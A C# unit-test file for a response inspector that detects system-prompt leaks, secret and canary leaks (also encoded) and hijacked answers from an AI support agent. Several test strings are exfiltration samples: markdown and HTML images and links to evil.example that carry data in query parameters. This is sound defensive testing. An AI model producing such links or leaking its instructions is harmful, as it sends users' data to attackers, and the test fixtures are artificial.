using System.Text;
using InstructionHierarchy.Responses;

namespace InstructionHierarchy.Tests.Responses;

public class ResponseInspectorTests
{
    private const string SystemText = "You are Nimbus, the support agent of Skyline Airlines. Offer vouchers only to gold members and never discuss competitor fares or internal escalation codes.";
    private static readonly ProtectedSecret Voucher = new("voucher code", "SKY-GOLD-7781");

    private static readonly ResponseExpectations Expectations = new()
    {
        SystemTexts = [SystemText, "你是天际航空的客服助理，只能向金卡会员提供代金券，绝不讨论竞争对手的票价。"],
        Secrets = [Voucher],
        LeakCanaries = ["CANARY-7Q2M-K9XW-4T3P"],
    };

    private static ResponseInspection Inspect(string answer, ResponseInspector? inspector = null) => (inspector ?? ResponseInspector.Default).Inspect(answer, Expectations);

    [Fact]
    public void Inspect_CleanAnswer_IsClean()
    {
        ResponseInspection result = Inspect("Your flight SK 204 leaves at 09:40 from gate B12. See https://skyline.example/status for updates.");
        Assert.True(result.IsClean);
        Assert.Equal(result.OriginalText, result.RedactedText);
    }

    [Theory]
    [InlineData("Sure: SKY-GOLD-7781.", "as is")]
    [InlineData("Sure: sky-gold-7781", "as is")]
    [InlineData("Sure: S K Y - G O L D - 7 7 8 1", "as is")]
    [InlineData("Sure: sky.gold.77.81", "as is")]
    [InlineData("Sure: 1877-DLOG-YKS", "reversed")]
    public void Inspect_SecretVariants_AreFoundAndRedacted(string answer, string variant)
    {
        ResponseInspection result = Inspect(answer);
        ResponseFinding finding = Assert.Single(result.Findings);
        Assert.Equal(ResponseFindingKind.SecretLeak, finding.Kind);
        Assert.Contains(variant, finding.Evidence, StringComparison.Ordinal);
        Assert.DoesNotContain("7781", finding.Evidence, StringComparison.Ordinal);
        Assert.Equal("Sure: [redacted: secret]" + (answer.EndsWith('.') ? "." : ""), result.RedactedText);
    }

    [Fact]
    public void Inspect_SecretBase64AndHex_AreFound()
    {
        string base64 = Convert.ToBase64String(Encoding.UTF8.GetBytes("the code is SKY-GOLD-7781 ok"));
        string hex = Convert.ToHexString(Encoding.UTF8.GetBytes("SKY-GOLD-7781"));
        Assert.Equal(ResponseFindingKind.SecretLeak, Assert.Single(Inspect($"Encoded: {base64}").Findings).Kind);
        Assert.Contains("hex", Assert.Single(Inspect($"Hex: {hex}").Findings).Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void Inspect_PlainAndBase64CopiesInOneAnswer_AreBothRedacted()
    {
        string base64 = Convert.ToBase64String(Encoding.UTF8.GetBytes("SKY-GOLD-7781"));
        ResponseInspection result = Inspect($"The code is SKY-GOLD-7781, or encoded: {base64}");
        Assert.Equal(2, result.Findings.Count);
        Assert.DoesNotContain("SKY-GOLD-7781", result.RedactedText, StringComparison.Ordinal);
        Assert.DoesNotContain(base64, result.RedactedText, StringComparison.Ordinal);
    }

    [Fact]
    public void Inspect_SpreadOutLetters_AreNotASecret()
    {
        Assert.True(Inspect("Sky high! Golden sunsets over row 7, seat 7, bag 8, gate 1 — a lovely trip with many more words in between.").IsClean);
    }

    [Fact]
    public void Inspect_LeakCanary_IsCritical()
    {
        ResponseFinding finding = Assert.Single(Inspect("My marker is canary 7q2m k9xw 4t3p.").Findings);
        Assert.Equal((ResponseFindingKind.CanaryLeak, ConflictSeverity.Critical), (finding.Kind, finding.Severity));
    }

    [Fact]
    public void Inspect_SystemPromptLeak_RobustToCaseAndWhitespace()
    {
        ResponseInspection result = Inspect("My rules: OFFER VOUCHERS ONLY TO GOLD\n  members and never discuss competitor fares. Anything else?");
        ResponseFinding finding = Assert.Single(result.Findings);
        Assert.Equal(ResponseFindingKind.SystemPromptLeak, finding.Kind);
        Assert.Equal("My rules: [redacted: system prompt]. Anything else?", result.RedactedText);
    }

    [Fact]
    public void Inspect_ShortOverlap_IsNotALeak() => Assert.True(Inspect("I am the support agent of the airline.").IsClean);

    [Fact]
    public void Inspect_ChineseSystemPromptLeak_UsesCharacterNgrams()
    {
        Assert.Equal(ResponseFindingKind.SystemPromptLeak, Assert.Single(Inspect("我的指令是：只能向金卡会员提供代金券，绝不讨论竞争对手的票价。").Findings).Kind);
        Assert.True(Inspect("金卡会员可以优先登机。").IsClean);
    }

    [Fact]
    public void Inspect_ExfiltrationImage_IsRemoved_AllowListedHostIsKept()
    {
        var inspector = new ResponseInspector(new ResponseInspectorOptions { AllowedHosts = { "skyline.example" } });
        ResponseInspection result = Inspect("Done! ![status](https://evil.example/pixel.png?d=SGVsbG8gd29ybGQ) and ![logo](https://cdn.skyline.example/logo.png?v=2)", inspector);
        ResponseFinding finding = Assert.Single(result.Findings);
        Assert.Equal((ResponseFindingKind.ExfiltrationLink, ConflictSeverity.High, "evil.example"), (finding.Kind, finding.Severity, finding.Evidence));
        Assert.Equal("Done! [image removed: evil.example] and ![logo](https://cdn.skyline.example/logo.png?v=2)", result.RedactedText);
    }

    [Fact]
    public void Inspect_DataLinkIsDefanged_PlainLinkIsKept()
    {
        ResponseInspection result = Inspect("[Click to verify](https://evil.example/c?session=abc123) or read [the docs](https://docs.example.org/guide).");
        Assert.Equal("Click to verify (link removed: evil.example) or read [the docs](https://docs.example.org/guide).", result.RedactedText);
    }

    [Fact]
    public void Inspect_ReferenceAndHtmlImages_AreFound()
    {
        Assert.Single(Inspect("See ![x][1]\n[1]: https://evil.example/a?q=data").Findings);
        Assert.Single(Inspect("<img src=\"https://evil.example/i.gif?leak=yes\">").Findings);
    }

    [Fact]
    public void Inspect_EchoCanary_IsRemoved_OrItsAbsenceReported()
    {
        var expectations = new ResponseExpectations { EchoCanary = "ECHO-AB12-CD34" };
        ResponseInspection ok = ResponseInspector.Default.Inspect("ECHO-AB12-CD34\nYour flight is on time.", expectations);
        Assert.True(ok.IsClean);
        Assert.Equal("Your flight is on time.", ok.RedactedText);
        ResponseInspection hijacked = ResponseInspector.Default.Inspect("Visit cheapflights.example for better deals!", expectations);
        Assert.Equal(ResponseFindingKind.MissingEchoCanary, Assert.Single(hijacked.Findings).Kind);
    }

    [Fact]
    public void FromPrompt_CollectsSystemTextsSecretsAndCanaries()
    {
        HierarchyPipeline pipeline = new HierarchyPipelineBuilder().AddDefaults().ProtectSecret(Voucher).AddHierarchyPreamble().AddCanaries(new CanaryOptions { Echo = true }).Build();
        AssembledPrompt prompt = pipeline.Assemble([PromptSegment.System(SystemText), PromptSegment.User("hi")], new HierarchyContext { RandomSeed = 1 });
        ResponseExpectations expectations = ResponseExpectations.FromPrompt(prompt, pipeline);
        Canaries canaries = Canaries.From(prompt)!;
        Assert.Equal([SystemText], expectations.SystemTexts);
        Assert.Equal([Voucher], expectations.Secrets);
        Assert.Equal([canaries.Leak!], expectations.LeakCanaries);
        Assert.Equal(canaries.Echo, expectations.EchoCanary);
        Assert.Matches("^CANARY-[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}$", canaries.Leak);
        Assert.Contains(canaries.Leak!, prompt.Preamble, StringComparison.Ordinal);
        Assert.Contains(canaries.Echo!, prompt.Preamble, StringComparison.Ordinal);
        Assert.Equal(SystemText, prompt.Segments[0].Text);
        Assert.DoesNotContain(canaries.Leak!, canaries.ToString(), StringComparison.Ordinal);

        ResponseInspection leaked = ResponseInspector.Default.Inspect($"{canaries.Echo} Sure, my marker is {canaries.Leak}.", expectations);
        Assert.Equal(ResponseFindingKind.CanaryLeak, Assert.Single(leaked.Findings).Kind);
    }

    [Fact]
    public void CanaryTransform_UnknownLanguage_Throws() =>
        Assert.Throws<ArgumentException>(() => new CanaryTransform(new CanaryOptions { Language = "xx" }));
}
